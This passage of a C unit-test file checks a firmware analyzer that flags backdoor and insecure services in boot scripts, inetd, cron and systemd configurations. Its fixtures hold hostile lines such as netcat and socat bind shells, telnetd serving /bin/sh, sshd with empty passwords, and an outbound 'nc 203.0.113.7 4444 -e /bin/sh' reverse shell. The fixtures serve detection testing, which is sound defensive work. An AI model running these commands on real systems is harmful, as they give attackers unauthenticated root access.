	fv_test_put(d, "etc/xinetd.d/ftp", "service ftp\n{\n\tdisable = yes\n\tserver = /usr/sbin/vsftpd\n}\n");
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	/* no init system starts inetd here: still reported, with medium confidence */
	const struct fv_finding *t = expect(&r, "FV-SVC-001", "!/etc/inetd.conf", inetd_conf,
					    "telnet  stream  tcp  nowait  root  /usr/sbin/telnetd  telnetd -i", FV_SEV_HIGH);
	assert_int_equal(t->confidence, FV_CONF_MEDIUM);
	want_service(&r, "!/etc/inetd.conf", "/usr/sbin/telnetd", "inetd tcp/23", 2, "-i");
	expect(&r, "FV-SVC-003", "!/etc/inetd.conf", inetd_conf, "tftp    dgram   udp  wait    root  /usr/sbin/tcpd",
	       FV_SEV_MEDIUM);
	want_service(&r, "!/etc/inetd.conf", "in.tftpd", "inetd udp/69", 4, "-s /tftpboot");
	expect(&r, "FV-SVC-002", "!/etc/inetd.conf", inetd_conf, "1337    stream  tcp  nowait  root  /bin/sh  sh -i",
	       FV_SEV_CRITICAL);
	assert_int_equal(count_at(&r, NULL, "!/etc/inetd.conf"), 3);
	expect(&r, "FV-SVC-001", "!/etc/xinetd.d/telnet", xinetd_telnet, "\tserver          = /usr/sbin/in.telnetd",
	       FV_SEV_CRITICAL);
	want_service(&r, "!/etc/xinetd.d/telnet", "/usr/sbin/in.telnetd", "xinetd tcp/23", 6, "-L /bin/sh");
	assert_int_equal(count_at(&r, NULL, "!/etc/xinetd.d/ftp"), 0);
	fv_results_free(&r);

	/* started at boot: high confidence, and inetd itself is listed */
	fv_test_put(d, "etc/inittab", "::sysinit:/etc/init.d/rcS\n");
	fv_test_put(d, "etc/init.d/rcS", "#!/bin/sh\n/usr/sbin/inetd\n");
	prog(d, "usr/sbin/telnetd");
	fv_test_analyze(d, &fv_analyzer_services, &r);
	t = expect(&r, "FV-SVC-001", "!/etc/inetd.conf", inetd_conf, "telnet  stream  tcp  nowait", FV_SEV_HIGH);
	assert_int_equal(t->confidence, FV_CONF_HIGH);
	expect(&r, "FV-SVC-006", "!/etc/init.d/rcS", "#!/bin/sh\n/usr/sbin/inetd\n", "/usr/sbin/inetd", FV_SEV_INFO);
	fv_results_free(&r);
}

static const char crontab_root[] =
	"# m h dom mon dow command\n"
	"SHELL=/bin/sh\n"
	"*/5 * * * * /usr/bin/nc -l -p 4444 -e /bin/sh\n"
	"# * * * * * telnetd -l /bin/sh\n"
	"@reboot /usr/sbin/utelnetd -p 2323 -l /bin/sh -d\n"
	"0 3 * * * /usr/bin/logrotate /etc/logrotate.conf\n";

static const char crontab_sys[] = "PATH=/usr/sbin:/usr/bin\n17 * * * * root vsftpd /etc/vsftpd.conf % ignored\n";

static void crontabs(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "cron");
	fv_test_put(d, "etc/crontabs/root", crontab_root);
	fv_test_put(d, "etc/crontab", crontab_sys);
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	expect(&r, "FV-SVC-002", "!/etc/crontabs/root", crontab_root, "*/5 * * * * /usr/bin/nc -l -p 4444 -e /bin/sh",
	       FV_SEV_CRITICAL);
	want_service(&r, "!/etc/crontabs/root", "/usr/bin/nc", "cron", 3, "-l -p 4444 -e /bin/sh");
	expect(&r, "FV-SVC-001", "!/etc/crontabs/root", crontab_root, "@reboot /usr/sbin/utelnetd -p 2323 -l /bin/sh -d",
	       FV_SEV_CRITICAL);
	expect(&r, "FV-SVC-002", "!/etc/crontabs/root", crontab_root, "@reboot /usr/sbin/utelnetd", FV_SEV_CRITICAL);
	want_service(&r, "!/etc/crontabs/root", "/usr/sbin/utelnetd", "cron @reboot", 5, "-p 2323 -l /bin/sh -d");
	want_service(&r, "!/etc/crontabs/root", "/usr/bin/logrotate", "cron", 6, "/etc/logrotate.conf");
	assert_int_equal(count_at(&r, NULL, "!/etc/crontabs/root"), 3);
	expect(&r, "FV-SVC-003", "!/etc/crontab", crontab_sys, "17 * * * * root vsftpd", FV_SEV_MEDIUM);
	want_service(&r, "!/etc/crontab", "vsftpd", "cron", 2, "/etc/vsftpd.conf");
	fv_results_free(&r);
}

static const char wrap_rcs[] =
	"#!/bin/sh\n"                                                              /* 1 */
	"BB=/bin/busybox\n"                                                        /* 2 */
	"$BB telnetd -l /bin/sh\n"                                                 /* 3 */
	"nohup /usr/bin/agent --daemon >/dev/null 2>&1 &\n"                        /* 4 */
	"start-stop-daemon -S -b -x /usr/sbin/tftpd -- -l -s /tftpboot\n"          /* 5 */
	"busybox nc -ll -p 2222 -e /bin/ash &\n"                                   /* 6 */
	"socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/bash,pty,stderr &\n"       /* 7 */
	"env -i PATH=/bin FOO=1 /usr/sbin/httpd -h /www\n"                         /* 8 */
	"X=1 exec /usr/sbin/dnsmasq \\\n"                                          /* 9 */
	"    --conf-file=/etc/dnsmasq.conf\n"                                      /* 10 */
	"sh -c \"telnetd -p 24 -l /bin/sh\" &\n"                                   /* 11 */
	"for svc in lighttpd miniupnpd; do /usr/sbin/$svc & done\n"                /* 12 */
	"telnetd() { echo not the daemon; }\n"                                     /* 13 */
	"telnetd\n"                                                                /* 14 */
	"nc -l -p 8080 > /tmp/upload\n"                                            /* 15 */
	"/usr/sbin/sshd -o PermitEmptyPasswords=yes\n"                             /* 16 */
	"/usr/sbin/sshd -f /etc/ssh/alt_config\n"                                  /* 17 */
	"nc 203.0.113.7 4444 -e /bin/sh\n";                                        /* 18 */

static void wrappers(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "wrappers");
	fv_test_put(d, "etc/inittab", "::sysinit:/etc/init.d/rcS\n");
	fv_test_put(d, "etc/init.d/rcS", wrap_rcs);
	fv_test_put(d, "etc/ssh/alt_config", "Port 22\n# PermitEmptyPasswords yes\nPermitEmptyPasswords  yes\n");
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	const char *p = "!/etc/init.d/rcS";
	/* /bin/busybox is not in this root: medium confidence */
	assert_int_equal(expect(&r, "FV-SVC-001", p, wrap_rcs, "$BB telnetd -l /bin/sh", FV_SEV_CRITICAL)->confidence,
			 FV_CONF_MEDIUM);
	want_service(&r, p, "/bin/busybox", "rcS", 3, "telnetd -l /bin/sh");
	want_service(&r, p, "/usr/bin/agent", "rcS", 4, "--daemon");
	expect(&r, "FV-SVC-003", p, wrap_rcs, "start-stop-daemon -S -b -x /usr/sbin/tftpd", FV_SEV_MEDIUM);
	want_service(&r, p, "/usr/sbin/tftpd", "rcS", 5, "-l -s /tftpboot");
	expect(&r, "FV-SVC-002", p, wrap_rcs, "busybox nc -ll -p 2222 -e /bin/ash &", FV_SEV_CRITICAL);
	expect(&r, "FV-SVC-002", p, wrap_rcs, "socat TCP-LISTEN:5555", FV_SEV_CRITICAL);
	expect(&r, "FV-SVC-006", p, wrap_rcs, "env -i PATH=/bin FOO=1 /usr/sbin/httpd -h /www", FV_SEV_INFO);
	const struct fv_finding *t = expect(&r, "FV-SVC-006", p, wrap_rcs, "X=1 exec /usr/sbin/dnsmasq \\",
					    FV_SEV_INFO);
	assert_string_equal(t->evidence, "X=1 exec /usr/sbin/dnsmasq \\\\n    --conf-file=/etc/dnsmasq.conf");
	want_service(&r, p, "/usr/sbin/dnsmasq", "rcS", 9, "--conf-file=/etc/dnsmasq.conf");
	expect(&r, "FV-SVC-001", p, wrap_rcs, "sh -c \"telnetd -p 24 -l /bin/sh\" &", FV_SEV_CRITICAL);
	expect(&r, "FV-SVC-002", p, wrap_rcs, "sh -c \"telnetd -p 24 -l /bin/sh\" &", FV_SEV_CRITICAL);
	want_service(&r, p, "/usr/sbin/lighttpd", "rcS", 12, "");
	want_service(&r, p, "/usr/sbin/miniupnpd", "rcS", 12, "");
	expect(&r, "FV-SVC-006", p, wrap_rcs, "for svc in lighttpd miniupnpd", FV_SEV_INFO);
	/* line 14 calls the function of line 13, not a telnet server */
	expect(&r, "FV-SVC-006", p, wrap_rcs, "nc -l -p 8080 > /tmp/upload", FV_SEV_INFO);
	expect(&r, "FV-SVC-004", p, wrap_rcs, "/usr/sbin/sshd -o PermitEmptyPasswords=yes", FV_SEV_HIGH);
	/* sshd -f: the configuration file's line is the evidence */
	expect(&r, "FV-SVC-004", "!/etc/ssh/alt_config", "Port 22\n# PermitEmptyPasswords yes\nPermitEmptyPasswords  yes\n",
	       "PermitEmptyPasswords  yes", FV_SEV_HIGH);
	/* an outbound nc is no listener (reverse shells are the network analyzer's) */
	size_t want = 12;
	if (count_at(&r, NULL, p) != want) {
		for (size_t i = 0; i < r.findings.n; i++)
			print_message("  %s @%llu %s\n", r.findings.v[i].rule, (unsigned long long)r.findings.v[i].offset,
				      r.findings.v[i].evidence);
		fail_msg("%zu findings in rcS, expected %zu", count_at(&r, NULL, p), want);
	}
	fv_results_free(&r);
}

static const char ssd_rcs[] =
	"#!/bin/sh\n"
	"start-stop-daemon -Sbx/usr/sbin/vsftpd\n"
	"start-stop-daemon --start --quiet --exec=/usr/sbin/proftpd -- -c /etc/proftpd.conf\n"
	"start-stop-daemon --start --exec /usr/sbin/dropbear --startas /usr/sbin/dropbearmulti -- dropbear -B\n"
	"start-stop-daemon --stop --exec /usr/sbin/utelnetd\n"
	"start-stop-daemon -S -n telnetd\n";

static void start_stop_daemon(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "ssd");
	fv_test_put(d, "etc/inittab", "::sysinit:/etc/init.d/rcS\n");
	fv_test_put(d, "etc/init.d/rcS", ssd_rcs);
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	const char *p = "!/etc/init.d/rcS";
	want_service(&r, p, "/usr/sbin/vsftpd", "rcS", 2, "");
	expect(&r, "FV-SVC-003", p, ssd_rcs, "start-stop-daemon -Sbx/usr/sbin/vsftpd", FV_SEV_MEDIUM);
	want_service(&r, p, "/usr/sbin/proftpd", "rcS", 3, "-c /etc/proftpd.conf");
	/* --startas names the program that runs */
	want_service(&r, p, "/usr/sbin/dropbearmulti", "rcS", 4, "dropbear -B");
	expect(&r, "FV-SVC-004", p, ssd_rcs, "--startas /usr/sbin/dropbearmulti -- dropbear -B", FV_SEV_HIGH);
	/* stopping, or starting without a program to run, starts nothing (the 4th record is inittab's rcS) */
	assert_int_equal(r.nservices, 4);
	assert_int_equal(count_at(&r, NULL, p), 3);
	fv_results_free(&r);
}

static const char camera_rcs[] =
	"#!/bin/sh\n"                                                   /* 1 */
	"cd /mnt/mtd; ./dvr &\n"                                         /* 2 */
	"(sleep 30; nc -lp 9999 -e /bin/sh) &\n"                         /* 3 */
	"ulimit -s 1024 && exec /usr/bin/mini_httpd -p 80 &\n"           /* 4 */
	"/usr/sbin/vsftpd /etc/vsftpd.conf 2>&1 | logger -t ftp &\n"     /* 5 */
	"while true; do /usr/bin/watchdog_app; sleep 5; done &\n"        /* 6 */
	"PROG_LIST=\"httpd upnpd\"\n"                                  /* 7 */
	"for p in $PROG_LIST; do /usr/sbin/$p & done\n"                  /* 8 */
	"OPTS=\"-l /bin/sh\"\n"                                        /* 9 */
	"telnetd $OPTS\n"                                                /* 10 */
	"eval \"utelnetd -d\"\n"                                       /* 11 */
	"cd $APPDIR && ./elsewhere &\n"                                  /* 12 */
	"cd ..; /usr/sbin/utftpd &\n"                                    /* 13: from nowhere known */
	"cd /mnt/mtd/; cd ..; sh ./etc/extra.sh\n";                      /* 14: from /mnt */

static void background_and_folders(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "camera");
	fv_test_put(d, "etc/inittab", "::sysinit:/etc/init.d/rcS\n");
	fv_test_put(d, "etc/init.d/rcS", camera_rcs);
	fv_test_put(d, "mnt/etc/extra.sh", "/usr/sbin/tftpd &\n");
	prog(d, "mnt/mtd/dvr");
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	const char *p = "!/etc/init.d/rcS";
	/* relative paths run from the folder of the last cd */
	want_service(&r, p, "/mnt/mtd/dvr", "rcS", 2, "");
	expect(&r, "FV-SVC-003", "!/mnt/etc/extra.sh", "/usr/sbin/tftpd &\n", "/usr/sbin/tftpd &", FV_SEV_MEDIUM);
	want_service(&r, p, "./elsewhere", "rcS", 12, ""); /* after cd $APPDIR: left as written */
	/* a background list lists what it starts, not its sleep, ulimit, logger or true */
	expect(&r, "FV-SVC-002", p, camera_rcs, "(sleep 30; nc -lp 9999 -e /bin/sh) &", FV_SEV_CRITICAL);
	want_service(&r, p, "/usr/bin/mini_httpd", "rcS", 4, "-p 80");
	want_service(&r, p, "/usr/sbin/vsftpd", "rcS", 5, "/etc/vsftpd.conf");
	want_service(&r, p, "/usr/bin/watchdog_app", "rcS", 6, "");
	static const char *const not[] = { "sleep", "ulimit", "logger", "true" };
	for (size_t i = 0; i < sizeof not / sizeof not[0]; i++)
		for (size_t k = 0; k < r.nservices; k++)
			assert_string_not_equal(base_of(r.services[k].program), not[i]);
	/* an unquoted $X splits into words: two programs, and telnetd's -l */
	want_service(&r, p, "/usr/sbin/httpd", "rcS", 8, "");
	want_service(&r, p, "/usr/sbin/upnpd", "rcS", 8, "");
	expect(&r, "FV-SVC-001", p, camera_rcs, "telnetd $OPTS", FV_SEV_CRITICAL);
	want_service(&r, p, "telnetd", "rcS", 10, "$OPTS");
	expect(&r, "FV-SVC-001", p, camera_rcs, "eval \"utelnetd -d\"", FV_SEV_HIGH);
	fv_results_free(&r);
}

static void busybox_without_inittab(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "noinittab");
	prog(d, "bin/busybox");
	fv_test_put(d, "etc/init.d/rcS", "#!/bin/sh\n/usr/sbin/telnetd\n");
	fv_test_sh(d, "mkdir -p sbin && ln -s ../bin/busybox sbin/init");
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	const struct fv_finding *f = fv_test_finding(&r, "FV-SVC-005", "!/sbin/init");
	assert_non_null(f);
	assert_int_equal(f->confidence, FV_CONF_MEDIUM);
	assert_non_null(strstr(f->evidence, "no /etc/inittab"));
	want_service(&r, "!/sbin/init", "/bin/sh", "busybox init askfirst", 0, "");
	expect(&r, "FV-SVC-001", "!/etc/init.d/rcS", "#!/bin/sh\n/usr/sbin/telnetd\n", "/usr/sbin/telnetd", FV_SEV_HIGH);
	fv_results_free(&r);

	/* the same with systemd as init: no console shell */
	fv_test_sh(d, "rm sbin/init && mkdir -p lib/systemd && printf x > lib/systemd/systemd && "
		      "ln -s ../lib/systemd/systemd sbin/init");
	fv_test_analyze(d, &fv_analyzer_services, &r);
	assert_int_equal(fv_test_count(&r, "FV-SVC-005"), 0);
	fv_results_free(&r);
}

/* Two root filesystems in one image (a main and a recovery one): each is read on its own. */
static void two_roots(void **state)
{
	(void)state;
	char parent[512], a[600], b[600];
	root(parent, sizeof parent, "tworoots");
	snprintf(a, sizeof a, "%s/main", parent);
	snprintf(b, sizeof b, "%s/recovery", parent);
	fv_test_sh(parent, "mkdir main recovery");
	static const char unit[] = "[Service]\nExecStart=/usr/sbin/telnetd -F\n";
	for (int i = 0; i < 2; i++) {
		const char *d = i ? b : a;
		fv_test_put(d, "lib/systemd/system/telnet.service", unit);
		fv_test_sh(d, "mkdir -p etc/systemd/system/multi-user.target.wants && "
			      "ln -s /lib/systemd/system/telnet.service etc/systemd/system/multi-user.target.wants/");
	}
	fv_test_put(b, "etc/inittab", "::askfirst:-/bin/sh\n"); /* only the recovery root has a console shell */
	/* one file list: the recovery root's disk paths made relative to the common parent */
	struct fv_unpack ua, ub;
	char err[512] = "";
	assert_int_equal(fv_inventory_walk(a, &ua, err, sizeof err), FV_OK);
	assert_int_equal(fv_inventory_walk(b, &ub, err, sizeof err), FV_OK);
	struct fv_unpack *us[2] = { &ua, &ub };
	for (int k = 0; k < 2; k++) {
		for (size_t i = 0; i < us[k]->nfiles; i++) {
			struct fv_xfile *x = &us[k]->files[i];
			if (!x->disk)
				continue;
			char *d = malloc(strlen(x->disk) + 16);
			assert_non_null(d);
			sprintf(d, "%s/%s", k ? "recovery" : "main", x->disk);
			free(x->disk);
			x->disk = d;
		}
	}
	for (size_t i = 0; i < ub.nfiles; i++) {
		assert_int_equal(fv_grow(&ua.files, &ua.capfiles, ua.nfiles, sizeof *ua.files), 0);
		ua.files[ua.nfiles++] = ub.files[i];
	}
	struct fv_inventory inv;
	assert_int_equal(fv_inventory_build(&ua, parent, 1, &inv, err, sizeof err), FV_OK);
	assert_int_equal(inv.nroots, 2);
	const struct fv_analyzer *only[2] = { &fv_analyzer_services, NULL };
	struct fv_aopts o = { .rules_dir = NULL, .user_rules = NULL, .threads = 1, .only = only };
	struct fv_actx *ac;
	assert_int_equal(fv_analysis_open(&o, &ac, err, sizeof err), FV_OK);
	struct fv_results r;
	memset(&r, 0, sizeof r);
	assert_int_equal(fv_analysis_run(ac, &inv, &r), FV_OK);
	fv_analysis_close(ac);
	expect(&r, "FV-SVC-001", "main!/lib/systemd/system/telnet.service", unit, "ExecStart=/usr/sbin/telnetd -F",
	       FV_SEV_HIGH);
	expect(&r, "FV-SVC-001", "recovery!/lib/systemd/system/telnet.service", unit, "ExecStart=/usr/sbin/telnetd -F",
	       FV_SEV_HIGH);
	expect(&r, "FV-SVC-005", "recovery!/etc/inittab", "::askfirst:-/bin/sh\n", "::askfirst:-/bin/sh", FV_SEV_MEDIUM);
	assert_int_equal(fv_test_count(&r, "FV-SVC-005"), 1);
	fv_results_free(&r);
	fv_inventory_free(&inv);
	/* ub's files moved to ua (their strings with them) */
	ub.nfiles = 0;
	fv_unpack_free(&ub);
	fv_unpack_free(&ua);
}

static void hostile_files(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "hostile");
	/* binary junk as inittab, with colons sprinkled in; a rcS with NULs and no final newline */
	size_t jn = 1 << 16;
	uint8_t *junk = malloc(jn);
	assert_non_null(junk);
	fv_test_fill_random(junk, jn, 7);
	for (size_t i = 0; i < jn; i += 13)
		junk[i] = ':';
	for (size_t i = 5; i < jn; i += 97)
		junk[i] = '\n';
	fv_test_write_file(d, "etc/inittab", junk, jn);
	static const char rcs[] = "#!/bin/sh\necho \0 tel\0netd\n\0\0telnetd -l /bin/sh\0\n'unterminated\ntelnetd";
	fv_test_write_file(d, "etc/init.d/rcS", rcs, sizeof rcs - 1);
	fv_test_write_file(d, "etc/init.d/rcK", junk, jn);
	fv_test_write_file(d, "etc/crontabs/root", junk, jn);
	fv_test_write_file(d, "etc/inetd.conf", junk, jn);
	fv_test_write_file(d, "lib/systemd/system/junk.service", junk, jn);
	fv_test_sh(d, "mkdir -p etc/systemd/system/multi-user.target.wants && "
		      "ln -s /lib/systemd/system/junk.service etc/systemd/system/multi-user.target.wants/ && "
		      "mkdir -p etc/rc.d && ln -s ../init.d/rcK etc/rc.d/S00junk && "
		      "ln -s S01loop etc/rc.d/S01loop");
	free(junk);
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	/* the junk inittab starts nothing; rcS (not started by it) is not read */
	assert_int_equal(count_at(&r, NULL, "!/etc/inittab"), 0);
	assert_int_equal(count_at(&r, "FV-SVC-001", ""), 0);
	fv_results_free(&r);

	/* a readable inittab, a line without an end */
	fv_test_put(d, "etc/inittab", "::sysinit:/etc/init.d/rcS\n::askfirst:-/bin/sh");
	fv_test_analyze(d, &fv_analyzer_services, &r);
	expect(&r, "FV-SVC-005", "!/etc/inittab", "::sysinit:/etc/init.d/rcS\n::askfirst:-/bin/sh", "::askfirst:-/bin/sh",
	       FV_SEV_MEDIUM);
	/* NUL bytes are blanks, as to the shell: line 4 starts telnetd; the unterminated quote runs to the end */
	const struct fv_finding *f = fv_test_finding(&r, "FV-SVC-001", "!/etc/init.d/rcS");
	assert_non_null(f);
	assert_int_equal(f->offset, 26);
	assert_string_equal(f->evidence, "\\x00\\x00telnetd -l /bin/sh\\x00");
	assert_int_equal(count_at(&r, "FV-SVC-001", "!/etc/init.d/rcS"), 1);
	fv_results_free(&r);
}

static void huge_script(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "huge");
	fv_test_put(d, "etc/inittab", "::sysinit:/etc/init.d/rcS\n");
	/* 10 MB of rcS: 262144 lines of 40 bytes, then telnetd */
	size_t lines = 262144, n = lines * 40 + 64;
	char *big = malloc(n);
	assert_non_null(big);
	size_t o = 0;
	for (size_t i = 0; i < lines; i++)
		o += (size_t)snprintf(big + o, n - o, "echo \"line %09zu of the rc script.\"\n", i);
	assert_int_equal(o, lines * 40);
	o += (size_t)snprintf(big + o, n - o, "telnetd -l /bin/sh");
	fv_test_write_file(d, "etc/init.d/rcS", big, o);
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	const struct fv_finding *f = fv_test_finding(&r, "FV-SVC-001", "!/etc/init.d/rcS");
	assert_non_null(f);
	assert_int_equal(f->offset, lines * 40);
	assert_int_equal(f->severity, FV_SEV_CRITICAL);
	want_service(&r, "!/etc/init.d/rcS", "telnetd", "rcS", lines + 1, "-l /bin/sh");
	fv_results_free(&r);
	free(big);
}

static void user_rules(void **state)
{
	(void)state;
	char d[512], rules[512];
	root(d, sizeof d, "userrules");
	root(rules, sizeof rules, "userrules-rules");
	fv_test_put(d, "etc/inittab", "::sysinit:/etc/init.d/rcS\n");
	fv_test_put(d, "etc/init.d/rcS", "#!/bin/sh\n/opt/vendor/bin/vtelnetd -port 23 &\n/opt/vendor/bin/webd\n");
	fv_test_put(rules, "services/telnet.txt", "# vendor telnet servers\nvtelnetd\n");
	fv_test_put(rules, "services/daemon.txt", "webd   # the vendor's web UI\n");
	struct fv_results r;
	fv_test_analyze_rules(d, &fv_analyzer_services, rules, &r);
	expect(&r, "FV-SVC-001", "!/etc/init.d/rcS", "#!/bin/sh\n/opt/vendor/bin/vtelnetd -port 23 &\n",
	       "/opt/vendor/bin/vtelnetd -port 23 &", FV_SEV_HIGH);
	expect(&r, "FV-SVC-006", "!/etc/init.d/rcS", "#!/bin/sh\n/opt/vendor/bin/vtelnetd -port 23 &\n/opt/vendor/bin/webd\n",
	       "/opt/vendor/bin/webd", FV_SEV_INFO);
	fv_results_free(&r);

	/* a name that is not one, and a file named after no class: refused with where and what */
	static const struct {
		const char *file, *text, *msg;
	} bad[] = {
		{ "services/telnet.txt", "vtelnetd extra words\n", "telnet.txt:1: expected one program name" },
		{ "services/telnets.txt", "x\n", "telnets.txt: expected a program list named after its class" },
	};
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		fv_test_sh(rules, "rm -rf services");
		fv_test_put(rules, bad[i].file, bad[i].text);
		const struct fv_analyzer *only[2] = { &fv_analyzer_services, NULL };
		struct fv_aopts o = { .rules_dir = NULL, .user_rules = rules, .threads = 1, .only = only };
		struct fv_actx *a = NULL;
		char err[512] = "";
		assert_int_not_equal(fv_analysis_open(&o, &a, err, sizeof err), 0);
		if (!strstr(err, bad[i].msg))
			fail_msg("error \"%s\" does not say \"%s\"", err, bad[i].msg);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(sh_what_is_a_command),
		cmocka_unit_test(sh_expand_words),
		cmocka_unit_test(sh_hostile),
		cmocka_unit_test(busybox_init),
		cmocka_unit_test(sysv_init),
		cmocka_unit_test(openwrt_procd),
		cmocka_unit_test(systemd_units),
		cmocka_unit_test(superservers),
		cmocka_unit_test(crontabs),
		cmocka_unit_test(wrappers),
		cmocka_unit_test(start_stop_daemon),
		cmocka_unit_test(background_and_folders),
		cmocka_unit_test(busybox_without_inittab),
		cmocka_unit_test(two_roots),
		cmocka_unit_test(hostile_files),
		cmocka_unit_test(huge_script),
		cmocka_unit_test(user_rules),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
